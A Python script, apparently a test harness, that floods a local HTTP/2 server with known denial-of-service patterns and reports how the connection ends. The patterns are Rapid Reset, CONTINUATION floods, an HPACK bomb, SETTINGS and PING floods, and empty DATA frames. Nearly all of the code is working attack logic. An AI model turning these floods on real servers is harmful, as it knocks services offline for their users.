"""Floods of HTTP/2, frame by frame: python http2_floods.py CA PORT NAME. Prints a line of JSON: how the
connection ended, and how much was sent until then."""

import json
import select
import socket
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

FIELDS = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/")]


class Connection:
    """A connection that sends what it likes and notes how it ends."""

    def __init__(self):
        context = ssl.create_default_context(cafile=sys.argv[1])
        context.set_alpn_protocols(["h2"])
        plain = socket.socket()
        plain.settimeout(15)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if len(sys.argv) > 4:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        plain.connect(("127.0.0.1", int(sys.argv[2])))
        self.stream = context.wrap_socket(plain, server_hostname="localhost")
        self.encoder = Encoder()
        self.frames = 0
        self.goaway = None
        self.ended = False
        self.pongs = 0
        self.resets = []
        self.statuses = 0
        self.unread = b""
        self.stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())

    def send(self, *frames):
        """Sends frames in one piece; false when the connection has ended."""
        self.frames += len(frames)
        try:
            self.stream.sendall(b"".join(frame.serialize() for frame in frames))
        except OSError:
            self.ended = True
        return not self.ended

    def look(self, wait=0.0):
        """Reads what has come, waiting so long for something; false when the connection has ended."""
        try:
            if not self.stream.pending() and not select.select([self.stream], [], [], wait)[0]:
                return not self.ended
            received = self.stream.recv(65536)
            self.ended = self.ended or not received
            self.unread += received
        except OSError:
            self.ended = True
        while len(self.unread) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.unread[:9]))
            if len(self.unread) < 9 + length:
                break
            frame.parse_body(memoryview(self.unread[9:9 + length]))
            self.unread = self.unread[9 + length:]
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
                self.pongs += 1
            elif isinstance(frame, RstStreamFrame):
                self.resets.append(frame.error_code)
            elif isinstance(frame, HeadersFrame):
                self.statuses += 1
        return not self.ended

    def settle(self, wait):
        """Reads all that comes within a while; false when the connection has ended."""
        deadline = time.monotonic() + wait
        while self.look(max(0.0, deadline - time.monotonic())) and time.monotonic() < deadline:
            pass
        return not self.ended

    def headers(self, stream, *flags, fields=FIELDS):
        return HeadersFrame(stream, self.encoder.encode(fields), flags=list(flags))

    def to_end(self):
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline and self.look(0.2):
            pass


def rapid_reset(connection):
    """A hundred requests in one piece, each reset before anybody could look at it."""
    for batch in range(1000):
        frames = []
        for number in range(100):
            stream = 1 + 2 * (batch * 100 + number)
            frames += [connection.headers(stream, "END_HEADERS", "END_STREAM"), RstStreamFrame(stream, 8)]
        if not connection.send(*frames) or not connection.settle(0.05):
            break


def patient_reset(connection):
    """Each request is reset once the server has begun with it, which a ping's answer shows."""
    for number in range(5000):
        stream = 1 + 2 * number
        if not connection.send(connection.headers(stream, "END_HEADERS", "END_STREAM"), PingFrame(0, b"12345678")):
            break
        while connection.pongs <= number and connection.look(5.0):
            pass
        if connection.ended or connection.goaway is not None:
            break
        if not connection.send(RstStreamFrame(stream, 8)):
            break
        # What is sent into a connection that has just been closed takes its last words with it.
        if number >= 490 and not connection.settle(0.05):
            break


def continuations(connection):
    """A head that never ends (CVE-2024-27316 and its kin)."""
    connection.send(connection.headers(1, "END_STREAM"))
    frame = ContinuationFrame(1, connection.encoder.encode([("x-long", "x" * 100)]))
    for _ in range(20_000):
        if not connection.send(*[frame] * 10) or not connection.settle(0.02):
            break


def empty_continuations(connection):
    """The same without a byte in it, which no limit of bytes would find."""
    connection.send(connection.headers(1, "END_STREAM"))
    for _ in range(20_000):
        if not connection.send(*[ContinuationFrame(1, b"")] * 10) or not connection.settle(0.02):
            break


def header_bomb(connection):
    """A byte for each 4 KiB of head: a field of the dynamic table over and over (the HPACK bomb)."""
    connection.encoder.encode([("x-bomb", "x" * 3900)])
    for stream in range(1, 200, 2):
        block = Encoder().encode(FIELDS) + (b"\xbe" * 10_000)
        first = connection.encoder = Encoder()
        if stream == 1:
            block = first.encode(FIELDS) + first.encode([("x-bomb", "x" * 3900)]) + b"\xbe" * 10_000
        if not connection.send(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"])):
            break
        if not connection.settle(0.05):
            break


def settings(connection):
    """Settings without end, each of which wants an answer that nobody reads."""
    stream_of(connection, SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}))


def pings(connection):
    """Pings without end, each of which wants an answer that nobody reads."""
    stream_of(connection, PingFrame(0, b"12345678"))


def stream_of(connection, frame):
    piece = frame.serialize() * 500
    deadline = time.monotonic() + float(sys.argv[4])
    connection.stream.settimeout(0.2)
    while time.monotonic() < deadline:
        try:
            connection.stream.send(piece)
            connection.frames += 500
        except TimeoutError:
            pass
        except OSError:
            connection.ended = True
            return
    # That it has ended is seen without reading.
    watch = select.poll()
    watch.register(connection.stream, select.POLLHUP | select.POLLERR)
    connection.ended = bool(watch.poll(5000))


def empty_data(connection):
    """Data frames without data, which no window holds back (CVE-2019-9518)."""
    connection.send(connection.headers(1, "END_HEADERS"))
    for _ in range(20_000):
        if not connection.send(*[DataFrame(1, b"")] * 10) or not connection.settle(0.02):
            break


connection = Connection()
globals()[sys.argv[3]](connection)
if not connection.ended:
    connection.to_end()
print(json.dumps({
    "goaway": connection.goaway,
    "ended": connection.ended,
    "frames": connection.frames,
    "resets": len(connection.resets),
    "answered": connection.statuses,
}))
